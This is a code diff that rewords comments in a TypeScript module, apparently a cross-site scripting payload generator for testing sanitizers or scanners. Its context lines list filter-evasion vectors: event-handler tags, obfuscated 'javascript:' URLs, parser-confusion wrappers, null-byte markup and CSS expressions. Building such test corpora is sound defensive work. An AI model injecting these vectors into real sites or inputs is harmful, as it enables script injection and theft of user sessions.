@@ -1,6 +1,6 @@
 import type { Parts } from './payloads.ts';
 
-/** Elements that take an event; what is put in is the rest of the attribute, from its equals sign on. */
+/** Elements with an event attribute; the payload is inserted after its equals sign. */
 export const EVENTS: Parts = {
   'image-error': (rest) => `<img src="/nothing" onerror${rest}>`,
   'image-load': (rest) => `<IMG SRC="/covers/seo.svg" oNlOaD${rest}>`,
@@ -16,7 +16,6 @@ export const EVENTS: Parts = {
   'frame-load': (rest) => `<iframe src="about:blank" onload${rest}></iframe>`,
 };
 
-/** Elements that take an address. */
 export const URL_CARRIERS: Parts = {
   link: (address) => `<a href="${address}">Click</a>`,
   frame: (address) => `<iframe src="${address}"></iframe>`,
@@ -30,7 +29,7 @@ export const URL_CARRIERS: Parts = {
   'math-link': (address) => `<math href="${address}"><mtext>Click</mtext></math>`,
 };
 
-/** Addresses that are scripts, as browsers understand them. */
+/** Script addresses that browsers accept. */
 export const SPELLINGS: Parts = {
   plain: (call) => `javascript:${call}`,
   'upper-case': (call) => `JaVaScRiPt:${call}`,
@@ -51,7 +50,7 @@ export const SPELLINGS: Parts = {
   view: (call) => `view-source:javascript:${call}`,
 };
 
-/** Places in which parsers disagree on where a text ends. */
+/** Contexts in which parsers disagree on the end of a text. */
 export const WRAPPERS: Parts = {
   nothing: (html) => html,
   noscript: (html) => `<noscript><p title="</noscript>${html}"></noscript>`,
@@ -86,7 +85,7 @@ export const WRAPPERS: Parts = {
   plaintext: (html) => `${html}<plaintext>`,
 };
 
-/** Markup that is written strangely. */
+/** Unusual markup. */
 export const MARKUP: Parts = {
   'null-in-name': (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
   'null-in-event': (call) => `<img src=x on\u0000error="${call}">`,
@@ -116,7 +115,7 @@ export const MARKUP: Parts = {
   'prefixed-name': (call) => `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${call}</svg:script>`,
 };
 
-/** Styles that run something, or did in some browser. */
+/** Styles that run code, or did in some browser. */
 export const STYLES: Parts = {
   expression: (call) => `<p style="width:expression(${call})">Text</p>`,
   'background-url': (call) => `<p style="background:url(javascript:${call})">Text</p>`,
@@ -130,7 +129,7 @@ export const STYLES: Parts = {
   sheet: (call) => `<link rel="stylesheet" href="javascript:${call}">`,
 };
 
-/** What fits in no table. */
+/** Other vectors. */
 export const OTHERS: Parts = {
   srcset: (call) => `<img srcset="javascript:${call} 2x" src="/nothing" onerror="${call}">`,
   'picture-source': (call) => `<picture><source srcset="x" onerror="${call}"><img src="/nothing"></picture>`,
